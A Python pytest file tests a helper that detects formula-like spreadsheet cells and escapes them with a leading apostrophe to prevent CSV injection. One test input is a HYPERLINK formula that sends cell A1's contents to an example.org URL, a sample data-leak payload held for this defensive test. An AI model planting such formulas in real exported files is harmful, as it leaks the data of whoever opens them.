"""The one rule for formula-like cells, as importers refuse them and writers escape them."""

from __future__ import annotations

import csv
import io

import pytest

from shared.spreadsheet import SafeWriter, formula_like, safe_cell


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ('=HYPERLINK("http://example.org/?leak="&A1,"Click")', True),
        ("+44 1622 000000", True),  # Excel would try it as a sum
        ("@SUM(A1:A2)", True),
        ("-cmd", True),
        ("\t=1", True),
        ("-12.5", False),  # a number is a number
        ("+3", False),
        ("1e5", False),
        ("-", False),  # "none", as many systems write it
        ("Porchlight", False),
        ("", False),
    ],
)
def test_formula_like(value: str, formula: bool) -> None:
    assert formula_like(value) is formula
    assert safe_cell(value) == ("'" + value if formula else value)


def test_the_writer_escapes_every_cell_and_leaves_numbers_alone() -> None:
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerow(["=1+1", -3, "Kent", None])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-3", "Kent", ""]]
